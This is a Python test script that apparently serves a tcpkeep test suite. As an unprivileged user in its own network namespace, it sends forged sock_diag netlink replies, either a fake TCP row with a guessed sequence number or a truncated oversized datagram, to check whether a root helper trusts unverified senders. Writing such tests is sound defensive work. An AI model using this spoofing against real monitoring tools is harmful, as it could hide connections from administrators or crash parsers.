# SPDX-License-Identifier: MIT
"""The attacker of tests/running/status-forge.tap: an unprivileged user in a
user and network namespace of its own (CAP_NET_ADMIN there), which
unicasts forged sock_diag replies to the netlink port of tcpkeep-helper
while root runs `tcpkeep --status` and the helper reads this namespace.

    diag-forge.py DIR MODE INODE PORT

Holds a real IPv6 loopback connection on PORT (the row a forged end
would hide), writes DIR/attacker ("netns=N pid=P"), waits (at most 20 s)
for DIR/ready (the helper's port id, written by tests/running/diag-pause.c while
the helper waits), sends, writes DIR/result ("sent N" or "refused
ERRNO"), creates DIR/go, and waits to be killed (at most 60 s).

MODE rows: a TCP row for INODE (any socket of another process) with
peer 6.6.6.6:666, then an end of dump.  MODE overflow: one full 64 KiB
datagram whose last message is a 16-byte NLMSG_ERROR, a header without
its error code."""
import os
import socket
import struct
import sys
import time

NETLINK_SOCK_DIAG = 4
SOCK_DIAG_BY_FAMILY = 20
NLMSG_ERROR, NLMSG_DONE = 2, 3
NLM_F_MULTI = 2


def hdr(length, typ, seq, pid):
    return struct.pack("=IHHII", length, typ, NLM_F_MULTI, seq, pid)


def forged_row(seq, pid, inode):
    addr = socket.inet_aton("6.6.6.6") + b"\0" * 12
    sockid = struct.pack("!HH", 666, 666) + addr + addr + \
        struct.pack("=III", 0, 0xffffffff, 0xffffffff)
    # family, state established, timer none, retrans; expires, queues,
    # uid, inode
    msg = struct.pack("=BBBB", socket.AF_INET, 1, 0, 0) + sockid + \
        struct.pack("=IIIII", 0, 0, 0, 0, inode)
    return hdr(16 + len(msg), SOCK_DIAG_BY_FAMILY, seq, pid) + msg


def main():
    d, mode, inode, port = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    lst = socket.socket(socket.AF_INET6)
    lst.bind(("::1", port))
    lst.listen()
    cli = socket.create_connection(("::1", port))
    srv, _ = lst.accept()
    nl = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_SOCK_DIAG)
    nl.bind((0, 0))
    with open(os.path.join(d, "attacker.tmp"), "w") as f:
        f.write("netns=%d pid=%d\n" % (os.stat("/proc/self/ns/net").st_ino,
                                        os.getpid()))
    os.rename(os.path.join(d, "attacker.tmp"), os.path.join(d, "attacker"))
    ready = os.path.join(d, "ready")
    for _ in range(200):
        if os.path.exists(ready):
            break
        time.sleep(0.1)
    else:
        sys.exit("the helper never paused")
    portid = int(open(ready).read())
    if mode == "rows":
        # The sequence numbers a helper that does not check who sends
        # expects are easy to guess; these are today's: 2 and 10 (the
        # address families), one for each dump.
        msgs = []
        for seq in (2, 10):
            msgs.append(forged_row(seq, portid, inode) + hdr(20, NLMSG_DONE, seq, portid) + b"\0" * 4)
    else:
        filler = 65536 - 16
        msgs = [hdr(filler, 0x10, 10, portid) + b"\0" * (filler - 16) +
                hdr(16, NLMSG_ERROR, 10, portid)]
    result = "sent %d" % len(msgs)
    try:
        for m in msgs:
            nl.sendto(m, (portid, 0))
    except OSError as e:
        result = "refused %s" % (os.strerror(e.errno),)
    with open(os.path.join(d, "result"), "w") as f:
        f.write(result + "\n")
    open(os.path.join(d, "go"), "w").close()
    time.sleep(60)


main()
